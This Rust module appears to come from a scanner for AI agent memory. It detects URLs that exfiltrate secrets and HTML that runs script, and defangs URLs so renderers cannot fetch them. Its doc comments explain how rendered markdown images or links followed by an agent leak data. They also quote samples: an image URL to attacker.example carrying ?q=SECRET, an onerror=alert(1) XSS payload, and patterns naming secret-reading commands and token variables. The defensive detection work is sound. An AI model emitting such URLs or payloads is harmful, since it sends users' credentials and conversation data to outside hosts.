//! The web in memory: URLs that carry data out, HTML that runs script, and [`inert_urls`],
//! which makes the URLs of loaded memory text that no renderer fetches or links.
//!
//! Past 600 lines: one URL and HTML reader serves both the exfiltration rules and `inert_urls`;
//! split, both halves would parse URLs.

use super::tables::any_in;
use super::*;
use crate::bytes::starts_with_ci;

// ---------------------------------------------------------------------------------------------
// Exfiltration URLs.

/// How private the name starting at `b[i]` sounds (identifier characters, split at `_ - . :`
/// and where lower case turns upper): 2 a `@private-names` (`data/lists.txt`) part, 1 a `@private-in-query` part, 0
/// neither.
fn private_name(b: &[u8], i: usize) -> u8 {
    let name_char = |c: u8| c.is_ascii_alphanumeric() || b"_-.:".contains(&c);
    let e = run_while(b, i, b.len().min(i + 64), name_char);
    let name = &b[i..e];
    let mut level = 0;
    let mut s = 0;
    for k in 0..=name.len() {
        let cut = k == name.len()
            || b"_-.:".contains(&name[k])
            || (k > s && name[k].is_ascii_uppercase() && name[k - 1].is_ascii_lowercase());
        if cut {
            let part = name[s..k].to_ascii_lowercase();
            let is = |list| u8::from(any_in(list, |w| w == part.as_slice()));
            level = level
                .max(2 * is("private-names"))
                .max(is("private-in-query"));
            s = k + usize::from(k < name.len() && b"_-.:".contains(&name[k]));
        }
    }
    if contains_ci(name, b"api_key") || contains_ci(name, b"apikey") {
        level = 2;
    }
    level
}

/// Where a URL was written, which decides what it is allowed to hold.
#[derive(Clone, Copy, PartialEq)]
enum UrlPlace {
    /// `![alt](url)` or `<img src=url>`: a renderer fetches it without a click.
    Image,
    /// `[text](url)` or `href=url`.
    Link,
    Bare,
}

/// The place of a URL starting at `b[i]`, from what precedes it on its line.
fn url_place(b: &[u8], i: usize) -> UrlPlace {
    let from = i.saturating_sub(200);
    let before = &b[from..i];
    let before = &before[before
        .iter()
        .rposition(|&c| c == b'\n')
        .map_or(0, |p| p + 1)..];
    let t: Vec<u8> = before
        .iter()
        .rev()
        .copied()
        .skip_while(|c| b" \t\"'<".contains(c))
        .collect();
    // `t` is reversed.
    if t.starts_with(b"(]") {
        // Find the `[` that opens the text, and whether a `!` precedes it.
        let mut depth = 0;
        for (n, &c) in t.iter().enumerate().skip(1) {
            match c {
                b']' => depth += 1,
                b'[' if depth == 1 => {
                    return if t.get(n + 1) == Some(&b'!') {
                        UrlPlace::Image
                    } else {
                        UrlPlace::Link
                    };
                }
                b'[' => depth -= 1,
                _ => {}
            }
        }
        return UrlPlace::Link;
    }
    if t.starts_with(b"=") {
        let attr: Vec<u8> = t[1..]
            .iter()
            .take_while(|c| c.is_ascii_alphabetic())
            .map(u8::to_ascii_lowercase)
            .collect();
        return match attr.as_slice() {
            b"crs" | b"tescrs" | b"retsop" | b"ata" | b"dnuorgkcab" => UrlPlace::Image,
            _ => UrlPlace::Link,
        };
    }
    UrlPlace::Bare
}

/// The end of a URL starting at `b[i]`: at whitespace, quotes, angle brackets, or a `)` that
/// closes more than it opened (markdown); trailing sentence punctuation is left out.
fn url_end(b: &[u8], i: usize) -> usize {
    url_end_within(b, i, MAX_URL)
}

/// [`url_end`] for a URL of at most `max` bytes.
fn url_end_within(b: &[u8], i: usize, max: usize) -> usize {
    let e = url_end_raw(b, i, max);
    if b.get(e) == Some(&b')') {
        return e; // a markdown target ends at its parenthesis, dots and all
    }
    let mut e = e;
    while e > i && b".,;:!?".contains(&b[e - 1]) {
        e -= 1;
    }
    e
}

fn url_end_raw(b: &[u8], i: usize, max: usize) -> usize {
    let mut depth = 0i32;
    let mut e = i;
    let limit = b.len().min(i.saturating_add(max));
    while e < limit {
        match b[e] {
            c if c.is_ascii_whitespace() || b"\"'<>`".contains(&c) => break,
            b'(' => depth += 1,
            b')' if depth == 0 => break,
            b')' => depth -= 1,
            _ => {}
        }
        e += 1;
    }
    e
}

/// How long a URL the scanners read: no real one is longer, and the bound keeps a line of
/// unclosed URLs linear.
const MAX_URL: usize = 4096;

/// `exfiltration-url` (TAINTED): a URL built to carry private data to its host. Rendered
/// markdown fetches images without a click, and an agent that follows or fills in a link sends
/// whatever the link asks for. A URL counts when it holds:
///
/// * a command substitution (`$(…)` or backticks) whose command reads something private
///   (`cat`, `env`, `printenv`, `whoami`, `base64`, `git`, `aws` …, or a `~/` path);
/// * a template placeholder (`{…}`, `{{…}}`, `<…>`, `[…]`, `%…%`), percent-encoded or not,
///   whose name has a private part (`secret`, `token`, `password`, `api_key`, `conversation`,
///   `history`, `env`, `ssh`, `cookie`, `data` …): `?q={secret}`, `/{{chat_history}}`;
/// * in an image or a link (markdown or `src=`/`href=`), a shell variable with such a name
///   (`?t=$GITHUB_TOKEN`, `${AWS_SECRET_ACCESS_KEY}`);
/// * in an image, a query value left for the reader to fill in: `…`, `...`, or capitals such
///   as `SECRET_HERE`, `INSERT_API_KEY`. That is also how write-ups show the attack
///   (`![x](https://attacker.example/?q=SECRET)`), so it is `exfiltration-placeholder`
///   (SUSPICIOUS): marked, and made inert on output like every URL of loaded memory.
///
/// Plain URLs stay clean: docs links, placeholders with other names (`{owner}`, `{version}`,
/// `${VERSION}`), query strings with data already in them (a fixed URL sends nothing from
/// here). Documentation of an API whose key goes in the query (`?key={API_KEY}`) is reported:
/// say where the key goes instead of writing the template.
pub(super) fn scan_urls(b: &[u8], out: &mut Sink) {
    let mut quotes = super::intent::QuoteCache::default();
    let mut i = 0;
    while i + 8 <= b.len() {
        if b[i] | 0x20 != b'h' {
            i += 1;
            continue;
        }
        let scheme = if starts_with_ci(&b[i..], b"https://") {
            8
        } else if starts_with_ci(&b[i..], b"http://") {
            7
        } else {
            i += 1;
            continue;
        };
        if i > 0 && b[i - 1].is_ascii_alphanumeric() {
            i += scheme;
            continue;
        }
        let end = url_end(b, i);
        let place = url_place(b, i);
        if let Some((at, filled)) = exfiltrating(b, i + scheme, end, place) {
            let end = at.max(end).min(b.len());
            // In a code span inside prose it is shown, not rendered: an example in a write-up.
            let rule = if quotes.quoted_in_prose(b, i, end, true) {
                "quoted-instruction"
            } else if !filled {
                "exfiltration-placeholder"
            } else {
                "exfiltration-url"
            };
            out.hit(rule, i, end);
        }
        i = end.max(i + scheme);
    }
}

/// Where the URL `b[s..e]` (after its scheme) shows that it carries private data, if it does,
/// and whether it names what fills it (a substitution, a placeholder or variable with a
/// private name) rather than leaving a bare value for the reader (`?q=SECRET`, `?d=...`).
fn exfiltrating(b: &[u8], s: usize, e: usize, place: UrlPlace) -> Option<(usize, bool)> {
    let url = &b[s..e];
    let query = url
        .iter()
        .position(|&c| c == b'?' || c == b'#')
        .map(|q| s + q);
    let mut i = s;
    while i < e {
        let (c, len) = decoded(b, i);
        let k = i + len;
        let in_query = query.is_some_and(|q| i > q);
        match c {
            // Command substitution: its command may run past the URL's end (spaces inside).
            b'$' | b'`' if c == b'`' || decoded(b, k).0 == b'(' => {
                let body = if c == b'`' { k } else { k + decoded(b, k).1 };
                match substitutes_private(b, body) {
                    (true, _) => return Some((i, true)),
                    (false, len) => i = body + len,
                }
                continue;
            }
            // `%XX` is an escape, not the start of a `%NAME%` placeholder.
            b'%' if len == 1 && is_hex_escape(b, i) => {}
            b'{' | b'<' | b'[' | b'%' => {
                let mut n = k;
                while matches!(decoded(b, n).0, b'{' | b' ') {
                    n += decoded(b, n).1;
                }
                let n = n + usize::from(b.get(n) == Some(&b'$'));
                let private = private_name(b, n) >= if in_query { 1 } else { 2 };
                if private && (c == b'{' || in_query || place != UrlPlace::Bare) {
                    return Some((i, true));
                }
            }
            b'$' if place != UrlPlace::Bare => {
                let n = k + usize::from(decoded(b, k).0 == b'{');
                if private_name(b, n) >= if in_query { 1 } else { 2 } {
                    return Some((i, true));
                }
            }
            _ => {}
        }
        i = k;
    }
    if place == UrlPlace::Image {
        if let Some(q) = query {
            for value in b[q + 1..e].split(|&c| c == b'&') {
                let v = value
                    .iter()
                    .position(|&c| c == b'=')
                    .map_or(value, |p| &value[p + 1..]);
                let dots = v == b"..." || v == "…".as_bytes() || v == b"%E2%80%A6";
                // `SECRET_HERE`; in another script (lower-cased by the normal form), a name
                // joined by underscores: `ВМІСТ_ФАЙЛУ_ENV`.
                let name = std::str::from_utf8(v).is_ok_and(|v| {
                    v.chars()
                        .all(|c| (c.is_alphanumeric() && !c.is_ascii_lowercase()) || c == '_')
                        && v.chars().filter(|c| c.is_alphabetic()).count() >= 4
                });
                // Or one the text names again, to be filled in ("replace VALOR with the key").
                let caps = name
                    && if v.is_ascii() {
                        private_name(v, 0) > 0 || named_again(b, v, s, e)
                    } else {
                        v.contains(&b'_') || private_name(v, 0) > 0
                    };
                if dots || caps {
                    return Some((q, false));
                }
            }
        }
    }
    None
}

/// Whether the word `v` stands in `b` outside the URL `b[s..e]` too (as a whole word, within
/// 2 KB of it): a placeholder the text tells the reader to fill in.
fn named_again(b: &[u8], v: &[u8], s: usize, e: usize) -> bool {
    let word = |c: Option<&u8>| c.is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_');
    let (from, to) = (s.saturating_sub(2048), (e + 2048).min(b.len()));
    b[from..to]
        .windows(v.len())
        .enumerate()
        .map(|(k, w)| (from + k, w))
        .any(|(k, w)| {
            (k < s || k >= e)
                && w == v
                && !word(k.checked_sub(1).and_then(|p| b.get(p)))
                && !word(b.get(k + v.len()))
        })
}

fn is_hex_escape(b: &[u8], i: usize) -> bool {
    b.get(i + 1..i + 3)
        .is_some_and(|h| h.iter().all(u8::is_ascii_hexdigit))
}

/// The byte at `b[i]` with percent-escapes of URL punctuation decoded, and its length.
fn decoded(b: &[u8], i: usize) -> (u8, usize) {
    let Some(&c) = b.get(i) else { return (0, 1) };
    if c == b'%' {
        if let Some(h) = b.get(i + 1..i + 3) {
            let d = match h.to_ascii_uppercase().as_slice() {
                b"7B" => b'{',
                b"7D" => b'}',
                b"24" => b'$',
                b"28" => b'(',
                b"29" => b')',
                b"3C" => b'<',
                b"3E" => b'>',
                b"5B" => b'[',
                b"5D" => b']',
                b"60" => b'`',
                b"25" => b'%',
                b"20" => b' ',
                _ => 0,
            };
            if d != 0 {
                return (d, 3);
            }
        }
    }
    (c, 1)
}

/// Whether the command substituted from `b[s]` (up to its `)` or backtick, at most 120 bytes)
/// reads something private, and the length of that command.
fn substitutes_private(b: &[u8], s: usize) -> (bool, usize) {
    let end = b.len().min(s + 120);
    let body = &b[s..end];
    let body = &body[..body
        .iter()
        .position(|&c| c == b')' || c == b'`' || c == b'\n')
        .unwrap_or(body.len())];
    if contains_ci(body, b"~/") || secret_path(body).is_some() {
        return (true, body.len());
    }
    let word = |w: &[u8]| {
        !(w.is_empty()
            || w.iter()
                .any(|c| !(c.is_ascii_alphanumeric() || b"-_".contains(c))))
    };
    // The command of each piece of the pipeline, and any variable named like a secret.
    let commands = body.split(|c| b"|;&".contains(c)).filter_map(|piece| {
        let mut words = piece
            .split(|c| c.is_ascii_whitespace())
            .filter(|w| !w.is_empty());
        let first = words.next()?;
        Some(if first == b"sudo" {
            words.next()?
        } else {
            first
        })
    });
    let private_var = body
        .split(|c| !(c.is_ascii_alphanumeric() || *c == b'_'))
        .any(|w| private_name(w, 0) == 2 && w.iter().any(u8::is_ascii_uppercase));
    let private = private_var
        || commands
            .filter(|w| word(w))
            .any(|w| any_in("substituted", |s| w.eq_ignore_ascii_case(s)));
    (private, body.len().max(1))
}

// ---------------------------------------------------------------------------------------------
// HTML that runs script.

/// `html-event-handler` (TAINTED): HTML in memory is rendered by markdown viewers and read by
/// models that write web code; an inline event handler (`<img src=x onerror=…>`,
/// `<svg onload=…>`, `<body onpageshow=…>`) or a `javascript:`, `vbscript:` or `data:text/html`
/// URL runs script where it is rendered. JSX handlers, whose value is an expression in braces
/// (`<Button onClick={save}>`), and prose about them ("avoid inline onclick handlers",
/// "the javascript: scheme is blocked by CSP") stay clean.
/// Whether an event handler's value (`b` from the attribute on) is elided (`onerror=...`) or
/// only calls `alert`, `confirm`, `prompt` or `console.log` with a literal: the proof of
/// concept of XSS write-ups
/// (`<img src=x onerror=alert(1)>`), which inside a sentence is `script-proof-of-concept`
/// (SUSPICIOUS) rather than `html-event-handler` (TAINTED).
fn proof_of_concept(b: &[u8]) -> bool {
    let Some(eq) = b.iter().position(|&c| c == b'=') else {
        return false;
    };
    let v = unquoted_value(&b[eq + 1..]);
    // `onerror=...`: the handler elided, as write-ups show the shape.
    if v == b"..." || v == "\u{2026}".as_bytes() {
        return true;
    }
    let Some(open) = v.iter().position(|&c| c == b'(') else {
        return false;
    };
    let name = &v[..open];
    let args = &v[open + 1..];
    let close = args.iter().position(|&c| c == b')');
    [
        &b"alert"[..],
        b"confirm",
        b"prompt",
        b"console.log",
        b"window.alert",
    ]
    .iter()
    .any(|f| name.eq_ignore_ascii_case(f))
        && close.is_some_and(|c| {
            args[..c]
                .iter()
                .all(|&x| x.is_ascii_alphanumeric() || b" '\"_-.,".contains(&x))
                && args[c + 1..].iter().all(|&x| b" ;'\">/".contains(&x))
        })
}

/// An attribute value without its quotes: up to the closing quote, or to a blank or `>`.
fn unquoted_value(v: &[u8]) -> &[u8] {
    match v.first() {
        Some(&q @ (b'"' | b'\'')) => {
            let v = &v[1..];
            &v[..v.iter().position(|&c| c == q).unwrap_or(v.len())]
        }
        _ => {
            &v[..v
                .iter()
                .position(|&c| c.is_ascii_whitespace() || c == b'>')
                .unwrap_or(v.len())]
        }
    }
}

pub(super) fn scan_html(b: &[u8], out: &mut Sink) {
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'<' if b.get(i + 1).is_some_and(u8::is_ascii_alphabetic) => {
                let end = b[i + 1..]
                    .iter()
                    .take(400)
                    .position(|&c| c == b'>' || c == b'<' || c == b'\n')
                    .map_or(b.len().min(i + 401), |p| i + 1 + p);
                if let Some(at) = event_attribute(&b[i..end]) {
                    // `onerror=alert(1)` inside a sentence ("a tester posted <img …> and"):
                    // the proof of concept a postmortem shows; it runs, but shows a box and
                    // takes nothing. A bare tag is a probe, as any other handler.
                    // (The last thing before the tag on its line, read backwards, past the
                    // `">` that breaks out of an attribute in a payload: `"><img …>`.)
                    let before = &b[..i];
                    let before = before
                        .strip_suffix(b"\">")
                        .or_else(|| before.strip_suffix(b"'>"))
                        .unwrap_or(before);
                    let in_sentence = before
                        .iter()
                        .rev()
                        .find(|c| **c == b'\n' || !c.is_ascii_whitespace())
                        .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b',' || *c >= 0x80);
                    let rule = if in_sentence && proof_of_concept(&b[i + at..end]) {
                        "script-proof-of-concept"
                    } else {
                        "html-event-handler"
                    };
                    out.hit(rule, i, (end + 1).min(b.len()).max(i + at));
                }
                i += 1;
            }
            b'j' | b'J' | b'v' | b'V' | b'd' | b'D'
                if b.get(i + 1)
                    .is_some_and(|c| matches!(c | 0x20, b'a' | b'b')) =>
            {
                let scheme = [&b"javascript:"[..], b"vbscript:", b"data:text/html"]
                    .into_iter()
                    .find(|s| starts_with_ci(&b[i..], s));
                match scheme {
                    Some(s)
                        if (i == 0 || !b[i - 1].is_ascii_alphanumeric())
                            && b.get(i + s.len()).is_some_and(|c| !c.is_ascii_whitespace()) =>
                    {
                        out.hit("html-event-handler", i, b.len().min(i + s.len() + 24));
                        i += s.len();
                    }
                    _ => i += 1,
                }
            }
            _ => i += 1,
        }
    }
}

/// The offset in `tag` (`<name attr…`, up to its `>`) of an `on…=` attribute whose value is not
/// a JSX expression.
fn event_attribute(tag: &[u8]) -> Option<usize> {
    let mut i = run_while(tag, 1, tag.len(), |c| {
        c.is_ascii_alphanumeric() || c == b'-'
    });
    while i < tag.len() {
        let sep =
            tag[i].is_ascii_whitespace() || tag[i] == b'/' || tag[i] == b'"' || tag[i] == b'\'';
        if sep
            && tag
                .get(i + 1..i + 3)
                .is_some_and(|s| s.eq_ignore_ascii_case(b"on"))
        {
            let s = i + 1;
            let e = run_while(tag, s + 2, tag.len(), |c| c.is_ascii_alphabetic());
            let eq = skip_blanks(tag, e);
            if e - s >= 5 && tag.get(eq) == Some(&b'=') {
                let v = skip_blanks(tag, eq + 1);
                if tag.get(v) != Some(&b'{') {
                    return Some(s);
                }
            }
        }
        i += 1;
    }
    None
}

pub(super) fn scan_web(text: &str, out: &mut Sink) {
    let b = text.as_bytes();
    // URLs and script schemes have a colon; tags open with `<`.
    let colon = b.contains(&b':');
    if colon {
        scan_urls(b, out);
    }
    if colon || b.contains(&b'<') {
        scan_html(b, out);
    }
}

// ---------------------------------------------------------------------------------------------
// Inert URLs.

/// Rewrites the URLs of `text` so that no markdown or HTML renderer fetches or links them, for
/// memory shown to an agent or a person. An image in memory is fetched as soon as it is
/// rendered (and an agent may repeat it into its own rendered answer), which sends whatever its
/// URL holds to its host without anyone clicking; a link or a bare URL is one click, or one
/// tool call, away from the same. The scanner withholds URLs that visibly carry secrets
/// (`exfiltration-url`); this makes every other URL unable to fire at all, while a person or an
/// agent can still read where it pointed.
///
/// * `![alt](url "title")` becomes `[image: alt] hxxps://host[.]tld/path` (the title dropped),
///   so no image syntax is left;
/// * `[text](url)` becomes `text (hxxps://host[.]tld/path)`;
/// * an autolink `<https://…>` loses its brackets and is defanged as below;
/// * every other `http://`, `https://` or `ftp://` URL, bare or in an HTML attribute or a
///   reference definition (`[ref]: https://…`), is defanged too: bare URLs are linked by GFM
///   and by most chat interfaces, and `<img src=…>` is fetched like a markdown image;
/// * a bare `www.` host at the start of a word (which GFM links) and a protocol-relative
///   `//host.tld/…` target of a markdown link or HTML attribute (which renderers fetch from the
///   page's scheme) are defanged as well.
///
/// Defanging writes the scheme as `hxxp`, `hxxps` or `fxp` (keeping the case of its first and
/// last letters) and brackets the dots of the host (`[.]`); the path, query and fragment are
/// kept, with any URL nested in them (`?next=https://…`) defanged the same way. A person can
/// read the result, and undo it, but no renderer or URL parser takes it for a fetchable URL.
///
/// Left as they are: text inside code spans and fenced code blocks (renderers neither fetch nor
/// link there, and an agent may need the command as written); links whose target is not a web
/// URL (`./docs/a.md`, `mailto:`, `#anchor`); a scheme glued to the word before it
/// (`ahttps://…`, which nothing links). Markdown that is not read as a link (its text holding a
/// backtick, which a code span binds first; a title holding brackets; `![a]` and `(url)` on
/// different lines) keeps its syntax with only the URL defanged, which is enough: nothing
/// fetches `hxxps://`. Non-ASCII text and hosts pass through unchanged but for the brackets.
/// Applying it to its own output changes nothing, and it is linear in the text: every
/// look-ahead is bounded or consumes what it reads.
pub fn inert_urls(text: &str) -> String {
    let b = text.as_bytes();
    let web = contains_ci(b, b"http") || contains_ci(b, b"ftp://") || contains_ci(b, b"www.");
    if !web && !b.windows(2).any(|w| w == b"//") {
        return text.to_owned();
    }
    let mut out = String::with_capacity(text.len() + 16);
    let mut i = 0;
    let mut line_start = true;
    let mut fence: Option<(u8, usize)> = None;
    let mut spans = CodeSpans::default();
    while i < b.len() {
        let c = b[i];
        if line_start {
            let j = skip_blanks(b, i);
            let run = run_while(b, j, b.len(), |x| x == b'`' || x == b'~') - j;
            let marker = b.get(j).copied().unwrap_or(0);
            let fenced = run >= 3 && b[j..j + run].iter().all(|&x| x == marker) && j - i <= 3;
            let line_end = b[i..]
                .iter()
                .position(|&x| x == b'\n')
                .map_or(b.len(), |p| i + p + 1);
            match fence {
                Some((m, n)) => {
                    if fenced && marker == m && run >= n {
                        fence = None;
                    }
                    out.push_str(&text[i..line_end]);
                    i = line_end;
                    continue;
                }
                None if fenced => {
                    fence = Some((marker, run));
                    out.push_str(&text[i..line_end]);
                    i = line_end;
                    continue;
                }
                None => {}
            }
        }
        line_start = c == b'\n';
        if c == b'`' {
            let end = spans.end(b, i);
            out.push_str(&text[i..end]);
            i = end;
            continue;
        }
        // What comes before is judged on the output, which is what a second pass reads.
        let prev = out.as_bytes().last().copied();
        let found = match c {
            b'<' => autolink(text, i),
            b'!' | b'[' => markdown_link(text, i),
            _ => None,
        }
        .or_else(|| bare_url(text, i, prev));
        if let Some((n, rewritten)) = found {
            // `www.<https://…>`: the autolink's brackets go, and a second pass would read
            // `www.` + what follows as a host. Bracket its dot now, so a second pass finds
            // nothing to change.
            let o = out.as_bytes();
            if rewritten.starts_with(|ch: char| ch.is_ascii_alphanumeric())
                && o.len() >= 4
                && o[o.len() - 4..].eq_ignore_ascii_case(b"www.")
            {
                out.truncate(out.len() - 1);
                out.push_str("[.]");
            }
            out.push_str(&rewritten);
            i += n;
            continue;
        }
        let len = text[i..].chars().next().map_or(1, char::len_utf8);
        out.push_str(&text[i..i + len]);
        i += len;
    }
    out
}

/// Code spans, found line by line: for the backtick runs of the rest of a line, the run of
/// the same length that closes each (a span never crosses a line here), computed once per line
/// so that a line of unclosed runs of different lengths stays linear.
#[derive(Default)]
struct CodeSpans {
    /// Where the runs were read up to (the line's end).
    line_end: usize,
    /// Each run's start and length, and the index of the next run of the same length.
    runs: Vec<(usize, usize, Option<usize>)>,
    /// The first run not yet passed.
    next: usize,
}

impl CodeSpans {
    /// The end of the code span opening at the backtick run `b[i]`: after its closing run, or
    /// after the opening run when the line has none.
    fn end(&mut self, b: &[u8], i: usize) -> usize {
        if i >= self.line_end {
            self.read_line(b, i);
        }
        while self.runs.get(self.next).is_some_and(|r| r.0 < i) {
            self.next += 1;
        }
        match self.runs.get(self.next) {
            Some(&(s, len, close)) if s == i => {
                self.next = close.unwrap_or(self.next) + 1;
                close.map_or(i + len, |k| self.runs[k].0 + len)
            }
            // Not the start of a run (nothing leaves one half read): one backtick.
            _ => i + 1,
        }
    }

    fn read_line(&mut self, b: &[u8], i: usize) {
        self.line_end = b[i..]
            .iter()
            .position(|&c| c == b'\n')
            .map_or(b.len(), |p| i + p);
        self.runs.clear();
        self.next = 0;
        let mut k = i;
        while k < self.line_end {
            if b[k] == b'`' {
                let len = b[k..].iter().take_while(|&&c| c == b'`').count();
                self.runs.push((k, len, None));
                k += len;
            } else {
                k += 1;
            }
        }
        let mut last: std::collections::HashMap<usize, usize> = Default::default();
        for r in (0..self.runs.len()).rev() {
            self.runs[r].2 = last.insert(self.runs[r].1, r);
        }
    }
}

/// How far a markdown link's text or title is looked for, and how deep brackets or
/// parentheses may nest in it: real links stay far inside both, and the bounds keep a line of
/// unclosed `[` or `(` linear.
const MAX_LINK_PART: usize = 1000;
const MAX_LINK_DEPTH: usize = 16;

/// A markdown image or link `![alt](url …)` / `[text](url …)` at `text[i]` whose URL is a
/// web URL: its length and its inert form. Text or a title holding a backtick is not taken
/// for a link (a code span there binds first), nor a title holding brackets.
fn markdown_link(text: &str, i: usize) -> Option<(usize, String)> {
    let b = text.as_bytes();
    let image = b[i] == b'!';
    let open = i + usize::from(image);
    if b.get(open) != Some(&b'[') {
        return None;
    }
    let mut depth = 0;
    let mut k = open;
    let close = loop {
        match b.get(k)? {
            b'[' if depth == MAX_LINK_DEPTH => return None,
            b'[' => depth += 1,
            b']' if depth == 1 => break k,
            b']' => depth -= 1,
            b'\n' | b'`' => return None,
            _ => {}
        }
        k += 1;
        if k - open > MAX_LINK_PART {
            return None;
        }
    };
    if b.get(close + 1) != Some(&b'(') {
        return None;
    }
    let u = skip_blanks(b, close + 2);
    let angle = b.get(u) == Some(&b'<');
    let us = u + usize::from(angle);
    if !(web_scheme(&b[us..]) || protocol_relative(&b[us..])) {
        return None;
    }
    let ue = if angle {
        us + b[us..]
            .iter()
            .take(MAX_URL)
            .position(|&c| c == b'>' || c == b'<' || c == b'\n')
            .filter(|&p| b[us + p] == b'>')?
    } else {
        // Consumed whole, as `bare_url` does when this turns out not to be a link.
        url_end_within(b, us, b.len())
    };
    // The rest up to the closing parenthesis (a title).
    let mut end = ue + usize::from(angle);
    let mut d = 0;
    loop {
        if end - ue > MAX_LINK_PART {
            return None;
        }
        match b.get(end)? {
            b'(' if d == MAX_LINK_DEPTH => return None,
            b'(' => d += 1,
            b')' if d == 0 => break,
            b')' => d -= 1,
            b'\n' | b'`' | b'[' | b']' => return None,
            _ => {}
        }
        end += 1;
    }
    let label = inert_urls(&text[open + 1..close]);
    let url = defang(&text[us..ue]);
    let rewritten = if image {
        format!("[image: {label}] {url}")
    } else {
        format!("{label} ({url})")
    };
    Some((end + 1 - i, rewritten))
}

fn web_scheme(b: &[u8]) -> bool {
    starts_with_ci(b, b"http://") || starts_with_ci(b, b"https://") || starts_with_ci(b, b"ftp://")
}

/// `//host.tld…`: a host with a dot (and none bracketed yet) after two slashes.
fn protocol_relative(b: &[u8]) -> bool {
    if !b.starts_with(b"//") || !b.get(2).is_some_and(u8::is_ascii_alphanumeric) {
        return false;
    }
    let host = b[2..]
        .iter()
        .take(256)
        .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'.' || c == b'-' || c == b'[')
        .collect::<Vec<_>>();
    host.contains(&&b'.') && !host.contains(&&b'[')
}

/// An autolink `<https://…>` at `text[i]` (CommonMark links any scheme between angle
/// brackets): its length and its inert form, the brackets dropped.
fn autolink(text: &str, i: usize) -> Option<(usize, String)> {
    let b = text.as_bytes();
    if !web_scheme(&b[i + 1..]) {
        return None;
    }
    let close = b[i + 1..]
        .iter()
        .take(MAX_URL)
        .position(|&c| c == b'>' || c == b'<' || c == b'`' || c.is_ascii_whitespace())?;
    (b[i + 1 + close] == b'>').then(|| (close + 2, defang(&text[i + 1..i + 1 + close])))
}

/// A bare URL (or `www.` host, or a protocol-relative URL in an attribute or parentheses) at
/// `text[i]`, after the byte `prev` of the output: its length and its inert form.
fn bare_url(text: &str, i: usize, prev: Option<u8>) -> Option<(usize, String)> {
    let b = text.as_bytes();
    if prev.is_some_and(|p| p.is_ascii_alphanumeric() || p == b'.') {
        return None;
    }
    // GFM links `www.` hosts only at the start of a word.
    let word_start = prev.is_none_or(|p| p.is_ascii_whitespace() || b"(*_~<\"'".contains(&p));
    let www = word_start
        && starts_with_ci(&b[i..], b"www.")
        && b.get(i + 4).is_some_and(u8::is_ascii_alphanumeric);
    let relative = prev.is_some_and(|p| b"(=\"'".contains(&p)) && protocol_relative(&b[i..]);
    if !(web_scheme(&b[i..]) || www || relative) {
        return None;
    }
    // Consumed whole, however long, so that no part of it is read again.
    let e = url_end_within(b, i, b.len());
    Some((e - i, defang(&text[i..e])))
}

/// `url` with its scheme defanged, the dots of its host bracketed, and any scheme or `www.`
/// host further on defanged too, so that a second pass finds nothing to change.
fn defang(url: &str) -> String {
    let b = url.as_bytes();
    let (scheme, rest) = if starts_with_ci(b, b"ftp://") {
        ("fxp://".to_owned(), &url[6..])
    } else if web_scheme(b) {
        let p = url.find("://").unwrap_or(0);
        let mut s = url[..p + 3].to_owned();
        s.replace_range(1..3, "xx");
        (s, &url[p + 3..])
    } else if let Some(rest) = url.strip_prefix("//") {
        ("//".to_owned(), rest)
    } else {
        (String::new(), url)
    };
    let host_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let host = rest[..host_end].replace("[.]", ".").replace('.', "[.]");
    let rest = format!("{host}{}", &rest[host_end..]);
    let r = rest.as_bytes();
    let mut out = scheme;
    let mut copied = 0;
    let mut k = 0;
    // The end of a protocol-relative host met on the way.
    let mut relative_end = 0;
    while k < r.len() {
        let (keep, put, skip) =
            if starts_with_ci(&r[k..], b"https://") || starts_with_ci(&r[k..], b"http://") {
                (1, "xx", 3)
            } else if starts_with_ci(&r[k..], b"ftp://") {
                (1, "x", 2)
            } else if starts_with_ci(&r[k..], b"www.") {
                (3, "[.]", 4)
            } else if r[k] == b'.' && k < relative_end {
                (0, "[.]", 1)
            } else {
                if protocol_relative(&r[k..]) {
                    // `//host.tld`: its host's dots are bracketed, up to where a host ends.
                    let host = |c: u8| c.is_ascii_alphanumeric() || b".-".contains(&c);
                    relative_end = run_while(r, k + 2, r.len(), host);
                }
                k += 1;
                continue;
            };
        out.push_str(&rest[copied..k + keep]);
        out.push_str(put);
        copied = k + skip;
        k = copied;
    }
    out.push_str(&rest[copied..]);
    out
}
